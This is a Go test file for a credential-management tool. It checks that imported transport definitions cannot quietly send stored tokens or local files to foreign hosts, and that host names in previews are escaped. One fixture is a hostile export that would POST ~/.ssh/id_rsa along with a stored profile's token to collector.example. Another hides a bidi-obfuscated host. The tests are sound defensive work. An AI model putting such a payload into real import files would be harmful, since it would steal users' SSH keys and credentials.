package credentials

import (
	"errors"
	"strings"
	"testing"

	"github.com/credworkbench/credworkbench/internal/testenv"
)

// Issue #23.2: an imported transport must not send an existing profile's
// token, or a local file, where the file's author says without a yes.

// hostileExport is the reproduction: one transport that reads
// ~/.ssh/id_rsa and sends it with a1's token to a collector.
const hostileExport = `{"format":"credworkbench-profiles","version":1,"profiles":[],"transports":[` +
	`{"name":"collect","type":"HTTP","method":"POST","url":"https://collector.example/c","bodyFile":"~/.ssh/id_rsa",` +
	`"authorization":"Credential","profile":"a1"}]}`

// parseBoth parses a file as the CLI does: profiles, then its transports
// against what is stored and the file's profiles this import adds.
func parseBoth(t *testing.T, repo *Repository, data string) ([]ImportEntry, []TransportImportEntry) {
	t.Helper()
	entries, err := ParseImport([]byte(data), mustList(t, repo), ImportDefaults{})
	if err != nil {
		t.Fatal(err)
	}
	var valid []ImportEntry
	for _, e := range entries {
		if e.Err == nil {
			valid = append(valid, e)
		}
	}
	tents, err := ParseTransportImport([]byte(data), TransportImportContext{Profiles: mustList(t, repo), FromFile: ImportedFromFile(entries, valid, nil)})
	if err != nil {
		t.Fatal(err)
	}
	return entries, tents
}

func TestImportedTransportOfExistingProfileNeedsConfirmation(t *testing.T) {
	repo := newRepo(t, testenv.NewMemKeyring())
	a1, err := repo.Save(appProfile("a1"), SecretChange{ClientSecret: Secret("s3cret-value")})
	if err != nil {
		t.Fatal(err)
	}
	_, tents := parseBoth(t, repo, hostileExport)
	if len(tents) != 1 {
		t.Fatalf("entries %+v", tents)
	}
	e := tents[0]
	if e.Err != nil || !e.ForeignCredential || !e.ForeignHost || !e.NeedsConfirmation() {
		t.Fatalf("entry %+v: want a foreign credential and host that need confirmation", e)
	}
	if e.Transport.BodyFile != "" || e.BodyFile != "~/.ssh/id_rsa" {
		t.Fatalf("bodyFile kept: %+v", e)
	}
	sum := e.Summary()
	for _, want := range []string{"POST", "collector.example", `credential "a1"`, "already here", "no body", `bodyFile "~/.ssh/id_rsa" is not imported`} {
		if !strings.Contains(sum, want) {
			t.Errorf("summary %q lacks %q", sum, want)
		}
	}
	if why := e.Why(); !strings.Contains(why, `"a1"`) || !strings.Contains(why, "collector.example") {
		t.Errorf("why %q", why)
	}

	ts := repo.Transports()
	_, err = ts.ImportTransports(tents, TransportImportOptions{})
	if !errors.Is(err, ErrTransportsNeedConfirmation) || !strings.Contains(err.Error(), `"collect"`) {
		t.Fatalf("import without the yes: %v", err)
	}
	if all, _ := ts.List(); len(all) != 0 {
		t.Fatalf("imported without the yes: %+v", all)
	}
	if _, err := ts.ImportTransports(tents, TransportImportOptions{Accept: true}); err != nil {
		t.Fatal(err)
	}
	got := mustTransport(t, ts, "collect")
	if got.BodyFile != "" || got.Body != "" || got.ProfileID != a1.ID || got.ProfileName != "" {
		t.Fatalf("imported %+v", got)
	}
}

func TestImportedTransportOfTheFilesOwnProfile(t *testing.T) {
	// The transport goes to the host of its own profile's audience: nothing to ask.
	data := `{"format":"credworkbench-profiles","version":1,"profiles":[{"name":"a1","type":"application",` +
		`"tokenUrl":"https://idp.example.com/t","clientId":"c","audience":"https://api.example.com"}],"transports":[` +
		`{"name":"orders","type":"HTTP","url":"https://API.example.com./orders","body":"{}","authorization":"Credential","profile":"a1"}]}`

	t.Run("new profile", func(t *testing.T) {
		repo := newRepo(t, testenv.NewMemKeyring())
		entries, tents := parseBoth(t, repo, data)
		if e := tents[0]; e.Err != nil || e.NeedsConfirmation() || !strings.Contains(e.Summary(), "(from this file)") ||
			!strings.Contains(e.Summary(), "body inline (2 bytes)") {
			t.Fatalf("entry %+v %q", e, e.Summary())
		}
		sum, err := repo.Import(entries, false)
		if err != nil {
			t.Fatal(err)
		}
		tents, err = ParseTransportImport([]byte(data), TransportImportContext{Profiles: mustList(t, repo),
			FromFile: ImportedFromFile(entries, entries, sum.Added)})
		if err != nil {
			t.Fatal(err)
		}
		if _, err := repo.Transports().ImportTransports(tents, TransportImportOptions{}); err != nil {
			t.Fatal(err)
		}
		p, _ := repo.Get("a1")
		if got := mustTransport(t, repo.Transports(), "orders"); got.ProfileID != p.ID {
			t.Fatalf("linked to %q, want %q", got.ProfileID, p.ID)
		}
	})

	t.Run("name taken here: the file's profile is not imported, the transport would use the existing one", func(t *testing.T) {
		repo := newRepo(t, testenv.NewMemKeyring())
		if _, err := repo.Save(appProfile("a1"), SecretChange{ClientSecret: Secret("s3cret-value")}); err != nil {
			t.Fatal(err)
		}
		_, tents := parseBoth(t, repo, data)
		if e := tents[0]; !e.ForeignCredential || !e.NeedsConfirmation() {
			t.Fatalf("entry %+v", e)
		}
	})

	t.Run("renamed in the GUI: linked to the renamed import", func(t *testing.T) {
		repo := newRepo(t, testenv.NewMemKeyring())
		if _, err := repo.Save(appProfile("a1"), SecretChange{ClientSecret: Secret("s3cret-value")}); err != nil {
			t.Fatal(err)
		}
		entries, _ := parseBoth(t, repo, data)
		renamed := append([]ImportEntry(nil), entries...)
		renamed[0].Profile.Name, renamed[0].Err = "a1 2", nil
		sum, err := repo.Import(renamed, false)
		if err != nil {
			t.Fatal(err)
		}
		tents, err := ParseTransportImport([]byte(data), TransportImportContext{Profiles: mustList(t, repo),
			FromFile: ImportedFromFile(entries, renamed, sum.Added)})
		if err != nil {
			t.Fatal(err)
		}
		p, _ := repo.Get("a1 2")
		if e := tents[0]; e.NeedsConfirmation() || e.Transport.ProfileID != p.ID {
			t.Fatalf("entry %+v, want linked to %s without confirmation", e, p.ID)
		}
	})
}

func TestImportedTransportPreviewEscapesTheHost(t *testing.T) {
	data := `{"format":"credworkbench-profiles","version":1,"profiles":[],"transports":[` +
		`{"name":"x","type":"HTTP","url":"https://ev\u202eil\u009b.example/c"}]}`
	repo := newRepo(t, testenv.NewMemKeyring())
	_, tents := parseBoth(t, repo, data)
	if len(tents) != 1 || tents[0].Err != nil {
		t.Fatalf("entries %+v", tents)
	}
	for _, s := range []string{tents[0].Summary(), tents[0].Why()} {
		if strings.ContainsAny(s, "\u202e\u009b") || !strings.Contains(s, `ev\u202eil\u009b.example`) {
			t.Fatalf("preview %q shows the host's bidi or C1 character raw", s)
		}
	}
	if !tents[0].NeedsConfirmation() || tents[0].ForeignCredential {
		t.Fatalf("entry %+v: a host no profile of the file uses needs confirmation", tents[0])
	}
}
